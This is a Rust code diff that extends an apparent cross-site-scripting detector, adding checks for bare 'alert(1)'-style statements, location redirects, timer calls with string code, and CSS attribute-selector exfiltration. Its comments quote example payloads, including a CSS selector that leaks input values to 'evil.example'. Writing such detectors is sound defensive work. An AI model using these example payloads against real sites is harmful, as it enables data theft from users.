@@ -3,17 +3,46 @@
 use super::super::bytes::{
     DIGIT, Literals, NUL, QUOTE, REACH, SPACE, WORD, any, eat_any, ends, first, head, is_digit, is_letter, is_one,
     is_quote, is_space, is_word, last, near, of, places, skip, spaces, split, split_near, split_until, starts, tail,
-    until_near, word, words,
+    trim, until_near, word, words,
 };
 use super::super::names::Name;
 
 /// How much white space, or how long a comment, may stand between two letters of a URL's scheme.
 const SCHEME_GAP_MAX: usize = 48;
 
+/// How far before a URL its selector and property are looked for.
+const STYLE_REACH: usize = 96;
+
 pub(super) fn find(text: &[u8], written: Option<&[u8]>) -> Option<&'static str> {
-    let found = words(text).find_map(|(before, name, after)| at_word(before, name, after));
+    let found = whole(text).or_else(|| words(text).find_map(|(before, name, after)| at_word(before, name, after)));
     let found = found.or_else(|| schemes(text)).or_else(|| string_escape(text)).or_else(|| symbols(text));
     found.or_else(|| hidden_by_encoding(text, written?))
+}
+
+/// A text that is nothing but a statement: `alert(1)`, `location='//evil.example'`.
+fn whole(text: &[u8]) -> Option<&'static str> {
+    let statement = trim(text);
+    let statement = statement.strip_suffix(b";").unwrap_or(statement);
+    let (name, behind) = word(statement);
+    let found = match Name::of(name) {
+        Name::Alert | Name::Confirm | Name::Prompt | Name::Eval => {
+            let argument = behind.strip_prefix(b"(")?;
+            let told = is_digit(first(argument))
+                || is_quote(first(argument))
+                || is_one(word(argument).0, any!["document", "location", "origin", "self", "this", "window"]);
+            told && last(statement) == b')'
+        }
+        Name::Document | Name::SelfName | Name::Top | Name::Window | Name::Location => {
+            let place = eat_any(behind, any![".location"]).unwrap_or(behind);
+            let url = spaces(eat_any(place, any![".href"]).unwrap_or(place)).strip_prefix(b"=")?;
+            let url = spaces(url);
+            (place.len() < behind.len() || name == b"location")
+                && is_quote(first(url))
+                && starts(url.get(1..)?, any!["http", "//", "javascript:"])
+        }
+        _ => false,
+    };
+    found.then_some("cross_site_scripting.script_code")
 }
 
 /// What attackers call first.
@@ -73,6 +102,7 @@ fn named(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
         | Name::Confirm
         | Name::Prompt
         | Name::Eval
+        | Name::Setinterval
         | Name::Settimeout
         | Name::Execscript
         | Name::Function
@@ -103,7 +133,12 @@ fn named(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
         }
         Name::Url => {
             let address = skip(spaces(called.strip_prefix(b"(")?), QUOTE);
-            let property = before.trim_ascii_end();
+            let property = tail(before, STYLE_REACH).trim_ascii_end();
+            // A selector that asks what a value begins with: `input[value^=a]{background:url(//evil.example/?a)}`.
+            let selects = property.contains(&b'[') && near(property, any!["^=", "$=", "*="]);
+            if selects && starts(address, any!["http", "//"]) {
+                return Some("cross_site_scripting.style_code");
+            }
             let binding = ends(property, any!["-moz-binding:", "behavior:", "-moz-binding :"]);
             (binding && (starts(address, any!["http", "//", "#default"]) || ends(property, any!["binding:"])))
                 .then_some("cross_site_scripting.style_code")
@@ -193,7 +228,7 @@ fn call(before: &[u8], name: &[u8], called: &[u8]) -> Option<&'static str> {
         return hidden;
     }
     if name == b"function"
-        && starts(called, any!["('", "(\"", "(`"])
+        && (starts(called, any!["('", "(\"", "(`"]) || first(called) == b'`' && ends(before, any!["new "]))
         && near(called, any!["alert(", "eval(", "document.", "prompt("])
     {
         return hidden;
@@ -202,8 +237,9 @@ fn call(before: &[u8], name: &[u8], called: &[u8]) -> Option<&'static str> {
         let (argument, behind) = split(called.get(1..)?, WORD);
         return (argument.len() <= 16 && first(behind) == b'`').then_some("cross_site_scripting.hidden_call");
     }
-    if name == b"settimeout" && first(called) == b'`' {
-        return hidden;
+    if is_one(name, any!["settimeout", "setinterval"]) {
+        let code = called.strip_prefix(b"(").map_or(called, spaces);
+        return if first(called) == b'`' || is_quote(first(code)) && is_call(code.get(1..)?) { hidden } else { None };
     }
     if is_one(name, any!["write", "writeln"]) && !ends(before, any!["document."]) {
         return None;
@@ -368,7 +404,7 @@ fn is_code(code: &[u8]) -> bool {
 }
 
 /// What follows `letters`, between which there may be white space, controls, backslashes and comments.
-fn spaced<'a>(rest: &'a [u8], letters: &[u8]) -> Option<&'a [u8]> {
+pub(super) fn spaced<'a>(rest: &'a [u8], letters: &[u8]) -> Option<&'a [u8]> {
     let mut rest = rest;
     for (index, letter) in letters.iter().enumerate() {
         if index > 0 && first(rest) != *letter {
